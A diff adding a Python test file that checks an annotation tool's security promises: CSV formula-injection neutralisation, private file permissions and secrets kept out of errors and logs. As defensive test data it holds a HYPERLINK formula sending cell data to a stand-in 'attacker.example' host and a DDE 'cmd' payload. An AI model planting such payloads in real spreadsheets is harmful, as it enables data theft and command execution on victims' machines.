@@ -1,0 +1,182 @@
+"""Security promises (README "Security"): private files, no secret in argv, logs or messages, spreadsheet-safe CSV."""
+
+from __future__ import annotations
+
+import csv
+import json
+import os
+import stat
+import subprocess
+import sys
+
+import pandas as pd
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from evalstudio.client import Client, Settings
+from evalstudio.errors import EvalstudioError
+from evalstudio.exporters.files import neutralise, spreadsheet_safe
+from evalstudio.importing import import_files
+from evalstudio.results import region
+from evalstudio.retry import RetryPolicy
+
+from .conftest import ROOT, example_files
+
+FORMULA = ("=", "+", "-", "@", "\t", "\r")
+EVIL = '=HYPERLINK("http://attacker.example/?d="&A1,"click")'
+
+
+def mode(path) -> int:
+    return stat.S_IMODE(os.stat(path).st_mode)
+
+
+@pytest.mark.parametrize("value, shown", [
+    (EVIL, "'" + EVIL), ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
+    ("\tx", "'\tx"), ("\r=1", "'\r=1"), ("-5", "-5"), ("+1.5", "+1.5"), ("-1e3", "-1e3"), ("plain text", "plain text"),
+    ("a=b", "a=b"), (7.5, 7.5), (None, None),
+])
+def test_cells_a_spreadsheet_would_evaluate_are_neutralised(value, shown):
+    assert neutralise(value) == shown
+
+
+@settings(max_examples=500, deadline=None)
+@given(st.lists(st.text(max_size=20), min_size=1, max_size=5))
+def test_no_csv_cell_starts_a_formula(texts):
+    frame = spreadsheet_safe(pd.DataFrame({"note": texts}))
+    for original, cell in zip(texts, frame["note"]):
+        if cell != original:  # only ever a leading ' added
+            assert cell == "'" + original
+        assert not (cell.startswith(FORMULA) and neutralise(cell) != cell)
+
+
+@pytest.mark.server
+def test_export_and_report_csv_are_safe_and_raw_formats_keep_the_text(reg, importer_for, client, label_studio, tmp_path):
+    from .test_cli import run
+
+    project = reg.get("cmv").model_copy(update={"title": "cmv formula injection"})
+    report = import_files(project, importer_for("cmv"), example_files("cmv"), client)
+    task = min(client.export_tasks(report.project_id), key=lambda t: t["id"])
+    admin = next(uid for uid, email in client.users().items() if email == label_studio.credentials().username)
+    if not task["annotations"]:
+        li = project.interface
+        client.sdk.annotations.create(id=task["id"], completed_by=admin,
+                                      result=[region(li, "q1_persuasive", "Yes"), region(li, "note", EVIL)])
+    env = {"LABEL_STUDIO_URL": label_studio.url, "LABEL_STUDIO_API_KEY": label_studio.credentials().api_key}
+    where = ["--project-id", str(report.project_id)]
+    notes = {}
+    for fmt in ("csv", "jsonl", "parquet"):
+        out = tmp_path / f"annotations.{fmt}"
+        done = run("export", "cmv", "-o", str(out), "--format", fmt, *where, env=env)
+        assert done.returncode == 0, done.stderr
+        if fmt == "csv":
+            with open(out, newline="", encoding="utf-8") as f:
+                rows = list(csv.DictReader(f))
+        elif fmt == "jsonl":
+            rows = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
+        else:
+            rows = pd.read_parquet(out).to_dict("records")
+        notes[fmt] = {r["note"] for r in rows if r["note"] not in (None, "") and r["note"] == r["note"]}
+    assert notes == {"csv": {"'" + EVIL}, "jsonl": {EVIL}, "parquet": {EVIL}}
+
+    done = run("report", "cmv", "-o", str(tmp_path / "rep"), "--bootstrap", "10", *where, env=env)
+    assert done.returncode == 0, done.stderr
+    for table in (tmp_path / "rep").glob("*.csv"):
+        with open(table, newline="", encoding="utf-8") as f:
+            for row in csv.reader(f):
+                assert not any(cell.startswith(FORMULA) and neutralise(cell) != cell for cell in row), (table.name, row)
+
+
+@pytest.mark.server
+def test_label_studio_data_is_private_to_this_user(label_studio):
+    """The data folder is 0700, and nothing in it (SQLite database, token files, logs) is readable by others."""
+    data = label_studio.data_dir
+    assert mode(data) == 0o700
+    checked = [data / "credentials.json", data / "evalstudio.env", data / "label-studio.log"]
+    sqlite = list(data.rglob("*.sqlite3"))
+    for path in checked + sqlite:
+        assert mode(path) & 0o077 == 0, path
+
+
+def test_an_existing_open_data_folder_is_tightened(tmp_path):
+    from evalstudio.credentials import private_dir, write_private
+
+    folder = tmp_path / "data"
+    folder.mkdir(mode=0o755)
+    folder.chmod(0o755)
+    private_dir(folder)
+    assert mode(folder) == 0o700
+    write_private(folder / "secret.txt", "x")
+    assert mode(folder / "secret.txt") == 0o600
+
+
+@pytest.mark.parametrize("key", ["abc123\r", " abc123 \r\n", "abc123\n"])
+def test_a_key_from_a_crlf_env_file_works_and_is_never_shown(key, monkeypatch, tmp_path):
+    from evalstudio.client import settings_from_env
+
+    monkeypatch.chdir(tmp_path)
+    (tmp_path / ".env").write_bytes(f"LABEL_STUDIO_URL=http://127.0.0.1:9\r\nLABEL_STUDIO_API_KEY={key}\r\n".encode())
+    monkeypatch.delenv("LABEL_STUDIO_URL", raising=False)
+    monkeypatch.delenv("LABEL_STUDIO_API_KEY", raising=False)
+    settings = settings_from_env((tmp_path / ".env",))
+    assert settings.api_key == "abc123"
+    client = Client(settings, retry=RetryPolicy(attempts=1))
+    with pytest.raises(EvalstudioError) as error:  # nothing listens on port 9: a clean "cannot reach" error
+        client.users()
+    assert "abc123" not in str(error.value) and "Illegal header" not in str(error.value)
+
+
+@pytest.mark.parametrize("key", ["abc 123", "abc\x00123", "abc\r123", 'abc"123'])
+def test_a_malformed_key_is_refused_without_repeating_it(key):
+    with pytest.raises(EvalstudioError) as error:
+        Client(Settings("http://127.0.0.1:9", key))
+    assert "abc" not in str(error.value)
+
+
+@pytest.mark.parametrize("url", ["http://admin:hunter2-secret@127.0.0.1:9", "ftp://admin:hunter2-secret@127.0.0.1:9",
+                                 "127.0.0.1:9", "http://admin:hunter2-secret@127.0.0.1:notaport"])
+def test_credentials_in_a_url_are_never_echoed(url):
+    from .test_cli import run
+
+    done = run("setup", "dialogue", env={"LABEL_STUDIO_URL": url, "LABEL_STUDIO_API_KEY": "abc123"})
+    assert done.returncode == 1
+    assert "hunter2-secret" not in done.stderr + done.stdout and "Traceback" not in done.stderr, done.stderr
+
+
+def test_a_database_password_on_the_command_line_is_refused(tmp_path):
+    from .test_cli import run
+
+    done = run("server", "--data-dir", str(tmp_path / "d"), "--database-url", "postgresql://u:hunter2-secret@127.0.0.1/x")
+    assert done.returncode == 1 and "EVALSTUDIO_DATABASE_URL" in done.stderr
+    assert "hunter2-secret" not in done.stderr + done.stdout
+    assert not (tmp_path / "d").exists()
+
+
+def test_the_ml_backend_writes_its_secret_privately_and_never_shows_it(tmp_path):
+    """`evalstudio ml-backend` creates the secret file 0600 in a 0700 folder and names only the file."""
+    import socket
+
+    from evalstudio.server import wait_healthy
+
+    with socket.socket() as s:
+        s.bind(("127.0.0.1", 0))
+        port = s.getsockname()[1]
+    env = {k: v for k, v in os.environ.items() if k != "EVALSTUDIO_ML_BASIC_AUTH"}
+    env["EVALSTUDIO_PROJECTS"] = str(ROOT / "projects.yaml")
+    log = tmp_path / "backend.log"
+    process = subprocess.Popen([sys.executable, "-m", "evalstudio.cli", "ml-backend", "--port", str(port), "--workers", "1",
+                                "--model-dir", str(tmp_path / "state" / "models")], env=env, stdout=open(log, "w"),
+                               stderr=subprocess.STDOUT)
+    try:
+        wait_healthy(f"http://127.0.0.1:{port}", 60, process, "the ML backend")
+        secret_file = tmp_path / "state" / "ml-backend.auth"
+        password = secret_file.read_text().strip().split(":", 1)[1]
+        assert mode(secret_file) == 0o600 and mode(tmp_path / "state") == 0o700
+        assert mode(tmp_path / "state" / "models") == 0o700
+        import httpx
+
+        assert httpx.post(f"http://127.0.0.1:{port}/predict", json={"tasks": []}).status_code == 401
+    finally:
+        process.terminate()
+        process.wait(timeout=20)
+    assert password not in log.read_text() and str(secret_file) in log.read_text()
